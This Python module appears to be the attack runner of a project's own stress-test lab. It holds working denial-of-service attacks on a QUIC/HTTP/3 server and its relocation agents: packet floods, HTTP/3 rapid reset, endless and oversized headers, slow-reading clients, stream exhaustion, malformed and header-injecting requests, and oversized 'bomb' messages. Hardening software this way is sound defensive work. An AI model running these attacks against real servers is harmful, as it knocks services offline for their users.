"""The attacks, each in a process of its own: ``python -m quicferry_lab.siege.attacks NAME ...``.

An attack ends by itself when its time is over, and prints what it has done as one line of JSON.
Rates are such that the attacker does not take the processor from those whom it attacks: what a
machine does with more datagrams than it can read is not the server's business.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from pathlib import Path

from aioquic.h3.connection import FrameType
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import StreamDataReceived, StreamReset

from quicferry.protocol import Address
from quicferry.relocation.errors import ChannelError
from quicferry.relocation.link.channel import Channel, connect
from quicferry.relocation.link.identity import Identity
from quicferry.relocation.link.listener import listen
from quicferry_lab.demo.lines import say

from .puppet import LEAST, Puppet, configuration, connected, frame, hold, request

_GARBAGE_RATE = 2000
_INITIAL_RATE = 200
_PAUSE = 0.01
_STREAMS = 100
_ENDLESS = 1 << 40
_INDEXED_FIELDS = 900_000
_SILENT_CLIENTS = 10
_SLOW_CLIENTS = 20
_DOWNLOADS = 20
_FULL_CLIENTS = 10
_BETWEEN = 0.1
"""Seconds between two clients that ask for much: what they ask for is the application's work."""
_BOMB = 6 << 20


class Ground(Enum):
    """What is attacked."""

    SERVER = "server"
    """A server."""
    MOVING = "moving server"
    """A server that has to move meanwhile."""
    AGENT = "agent"
    """The agent that a server was handed over to, and that serves its clients now."""
    SOURCE = "source"
    """A server that is to be handed over, to an agent that is the attacker."""


@dataclass(frozen=True)
class Site:
    """What an attacker knows.

    Attributes:
        server: The server's address.
        agent: That of the agent; where to listen, if the attacker is one.
        identity: What the attacker may prove itself with, of a peer that is trusted.
        until: When it is over, by `time.monotonic`.
    """

    server: tuple[str, int]
    agent: tuple[str, int] | None
    identity: Path | None
    until: float


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
        ground: What is attacked.
        run: Carries it out; returns how often something was done.
    """

    ground: Ground
    run: Callable[[Site], int]


def _paced(until: float, rate: float) -> Iterator[None]:
    """Yield so many times a second, and catch up after a pause of the machine's."""
    began_at, done = time.monotonic(), 0
    while (now := time.monotonic()) < until:
        due = int((now - began_at) * rate) - done
        if due <= 0:
            time.sleep(1 / rate)
            continue
        for _ in range(min(due, 100)):
            yield
        done += due


# Strangers


def _garbage(site: Site) -> int:
    count = 0
    with _udp(site.server) as sock:
        for _ in _paced(site.until, _GARBAGE_RATE):
            header = b"\xc3\0\0\0\1\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
            count += _send(sock, header + os.urandom(1200 - len(header)))
    return count


def _initials(site: Site) -> int:
    count = 0
    with _udp(site.server) as sock:
        for _ in _paced(site.until, _INITIAL_RATE):
            client = QuicConnection(configuration=configuration())
            client.connect(site.server, time.monotonic())
            for data, _ in client.datagrams_to_send(time.monotonic()):
                count += _send(sock, data)
    return count


@contextlib.contextmanager
def _udp(server: tuple[str, int]) -> Iterator[socket.socket]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(server)
        sock.setblocking(False)
        yield sock


def _send(sock: socket.socket, data: bytes) -> bool:
    try:
        sock.send(data)
    except OSError:
        return False
    return True


# Clients


def _rapid_reset(site: Site) -> int:
    """Begin requests, and cancel each as soon as the server has begun to answer."""
    waiting: set[int] = set()
    owner: list[Puppet] = []
    count = 0
    body = request((b":method", b"POST"), (b":path", b"/echo"))

    def act(puppet: Puppet) -> None:
        nonlocal count
        for event in puppet.events:
            if isinstance(event, StreamDataReceived | StreamReset) and event.stream_id in waiting:
                waiting.discard(event.stream_id)
                count += 1
                if isinstance(event, StreamDataReceived):
                    with contextlib.suppress(ValueError):  # it is over on one side
                        puppet.quic.stop_stream(event.stream_id, 0x10C)
                        puppet.quic.reset_stream(event.stream_id, 0x10C)
        if puppet not in owner:
            owner[:] = [puppet]
            waiting.clear()
        waiting.update(puppet.open(body) for _ in range(_STREAMS - len(waiting)))

    hold(site.server, site.until, act, pause=0.002)
    return count


def _endless_headers(site: Site) -> int:
    streams: dict[Puppet, int] = {}
    count = 0

    def act(puppet: Puppet) -> None:
        nonlocal count
        count += 1
        try:
            if puppet not in streams:
                streams.clear()
                streams[puppet] = puppet.open(frame(FrameType.HEADERS, b"", _ENDLESS))
            puppet.quic.send_stream_data(streams[puppet], bytes(16_384))
        except (ValueError, AssertionError, RuntimeError):  # the server wants no more of it
            streams.clear()

    hold(site.server, site.until, act, pause=_PAUSE)
    return count


def _many_fields(site: Site) -> int:
    fields = frame(FrameType.HEADERS, b"\0\0" + b"\xd1" * _INDEXED_FIELDS)  # :method: GET
    return _requests(site, [fields], at_once=3)


def _malformed(site: Site) -> int:
    length = b"content-length"
    wrong = [
        request(more=((length, b"+3"),)),
        request(more=((length, b"0_3"),)),
        request(more=((length, b"3"), (length, b"4"))),
        request((b":path", b"admin")),
        request((b":path", b"http://evil/admin")),
        request((b":path", b"/\x1b[2J")),
        request((b":path", b"/a b#c")),
        request((b":method", b"GET\r\nX: y")),
        request((b":authority", b"u:p@x/../y z")),
        request(more=((b"X-Upper", b"1"),)),
        request(more=((b"transfer-encoding", b"chunked"),)),
    ]
    fatal = [
        frame(FrameType.HEADERS, b"\xff" * 100),
        frame(FrameType.DATA, b"early"),
        frame(FrameType.SETTINGS, b""),
    ]
    # Most of them cost only their stream, and so the attacker may go on for longer.
    return _requests(site, 50 * wrong + fatal, at_once=_STREAMS // 2)


def _requests(site: Site, contents: list[bytes], *, at_once: int) -> int:
    """Send requests, so many at once, as fast as they are answered."""
    under_way: set[int] = set()
    count = 0
    owner: Puppet | None = None

    def act(puppet: Puppet) -> None:
        nonlocal owner, count
        if puppet is not owner:
            owner = puppet
            under_way.clear()
        for event in puppet.events:
            if isinstance(event, StreamReset) or getattr(event, "end_stream", False):
                under_way.discard(getattr(event, "stream_id", -1))
        while len(under_way) < at_once:
            under_way.add(puppet.open(random.choice(contents), ends=True))
            count += 1

    hold(site.server, site.until, act, pause=_PAUSE)
    return count


def _never_reading(site: Site) -> int:
    """Ask for much, and read nothing; the sockets' buffers fill, and nothing is acknowledged."""
    body = request((b":path", b"/bytes/100000000"))
    return _crowd(
        site,
        _SLOW_CLIENTS,
        lambda puppet: [puppet.open(body, ends=True) for _ in range(_DOWNLOADS)],
    )


def _slow_reading(site: Site) -> int:
    """Ask for much, and read a little of it, now and then."""
    body = request((b":path", b"/bytes/100000000"))
    crowd = _connected(site, _SLOW_CLIENTS)
    for puppet in crowd:
        for _ in range(_DOWNLOADS):
            puppet.open(body, ends=True)
        puppet.turn()
        time.sleep(_BETWEEN)
    until = max(site.until, time.monotonic() + LEAST)
    while time.monotonic() < until:
        for puppet in crowd:
            puppet.turn(reads=2)
            time.sleep(0.5 / _SLOW_CLIENTS)
    return len(crowd)


def _many_streams(site: Site) -> int:
    """Keep all streams open that may be, with requests whose bodies do not end."""
    body = request((b":method", b"POST"), (b":path", b"/upload"))
    crowd = _connected(site, _FULL_CLIENTS)
    for puppet in crowd:
        for _ in range(_STREAMS):
            puppet.open(body + frame(FrameType.DATA, bytes(100), 1 << 30))
    until = max(site.until, time.monotonic() + LEAST)
    while time.monotonic() < until:
        for puppet in crowd:
            puppet.turn()
        time.sleep(0.05)
    return len(crowd) * _STREAMS


def _silent(site: Site) -> int:
    return _crowd(site, _SILENT_CLIENTS, lambda puppet: [puppet.open(request(), ends=True)])


def _crowd(site: Site, number: int, ask: Callable[[Puppet], list[int]]) -> int:
    """Connect so many clients, let each ask for something, and hear nothing any more."""
    crowd = _connected(site, number)
    count = 0
    for puppet in crowd:
        count += len(ask(puppet))
        puppet.turn(reads=0)
        time.sleep(_BETWEEN)
    say("begun")
    time.sleep(max(0.0, site.until - time.monotonic()))
    return count


def _connected(site: Site, number: int) -> list[Puppet]:
    crowd: list[Puppet] = []
    while len(crowd) < number and (not crowd or time.monotonic() < site.until):
        puppet = connected(site.server, site.until)
        if puppet is None:
            break
        crowd.append(puppet)
    return crowd


# Hosts


def _agent_strangers(site: Site) -> int:
    """Connect to an agent again and again, and say something that is no TLS, or nothing."""
    assert site.agent is not None
    hello = b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + os.urandom(5000)
    openings = [b"", b"GET / HTTP/1.1\r\n\r\n", hello, os.urandom(1 << 16)]
    open_ones: list[socket.socket] = []
    count = 0
    for count, _ in enumerate(_paced(site.until, 200), 1):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            sock.connect(site.agent)
        if open_ones:  # the last one is connected by now
            _send(open_ones[-1], openings[count % len(openings)])
        open_ones.append(sock)
        if len(open_ones) > 300:
            open_ones.pop(0).close()
    return count


def _bombs() -> list[bytes]:
    """Return messages that are mostly arrays without anything in them, of a good and a bad kind."""
    arrays = b"\xdd" + _BOMB.to_bytes(4, "big") + b"\x90" * _BOMB
    # Followed, Accepted, Carry, Offer
    return [bytes([kind]) + arrays for kind in (0x89, 0x81, 0x02, 0x01)] + [b"\x02" + bytes(_BOMB)]


@dataclass
class _Told:
    """How many messages were sent, whatever becomes of the rest."""

    count: int = 0

    async def tell(self, channel: Channel, until: float) -> None:
        """Say what no peer should, and wait for a moment until the channel is closed."""
        with contextlib.suppress(ChannelError, TimeoutError):
            for bomb in _bombs():
                self.count += 1
                await channel.send(bomb)
                if time.monotonic() >= until:
                    return
            async with asyncio.timeout(1):
                await channel.receive()


def _agent_messages(site: Site) -> int:
    told = _Told()

    async def run() -> None:
        agent, identity = _peer(site)
        while not told.count or time.monotonic() < site.until:
            try:
                channel = await connect(*agent, identity, timeout=5)
            except ChannelError:
                await asyncio.sleep(0.1)
            else:
                await told.tell(channel, site.until)
                channel.abort()

    asyncio.run(run())
    return told.count


def _hostile_agent(site: Site) -> int:
    told = _Told()

    async def serve(channel: Channel) -> None:
        await channel.receive()
        await told.tell(channel, site.until)

    async def run() -> None:
        agent, identity = _peer(site)
        listener = await listen(*agent, identity, serve)
        say("begun")
        await asyncio.sleep(max(2 * LEAST, site.until - time.monotonic()))
        await listener.close()

    asyncio.run(run())
    return told.count


def _peer(site: Site) -> tuple[tuple[str, int], Identity]:
    assert site.agent is not None
    assert site.identity is not None
    return site.agent, Identity.load(site.identity)


ATTACKS = {
    "garbage-initials": Attack(Ground.SERVER, _garbage),
    "valid-initials": Attack(Ground.SERVER, _initials),
    "rapid-reset": Attack(Ground.SERVER, _rapid_reset),
    "endless-headers": Attack(Ground.SERVER, _endless_headers),
    "many-fields": Attack(Ground.SERVER, _many_fields),
    "malformed-requests": Attack(Ground.SERVER, _malformed),
    "never-reading": Attack(Ground.SERVER, _never_reading),
    "slow-reading": Attack(Ground.SERVER, _slow_reading),
    "many-streams": Attack(Ground.SERVER, _many_streams),
    "silent-at-a-move": Attack(Ground.MOVING, _silent),
    "agent-strangers": Attack(Ground.AGENT, _agent_strangers),
    "agent-messages": Attack(Ground.AGENT, _agent_messages),
    "hostile-agent": Attack(Ground.SOURCE, _hostile_agent),
}


def main() -> int:
    """Carry out one attack."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("--server", required=True)
    parser.add_argument("--agent")
    parser.add_argument("--identity", type=Path)
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    site = Site(
        server=_at(options.server),
        agent=None if options.agent is None else _at(options.agent),
        identity=options.identity,
        until=time.monotonic() + options.seconds,
    )
    say("over", done=ATTACKS[options.name].run(site))
    return 0


def _at(text: str) -> tuple[str, int]:
    address = Address.parse(text)
    return str(address.host), address.port


if __name__ == "__main__":
    sys.exit(main())
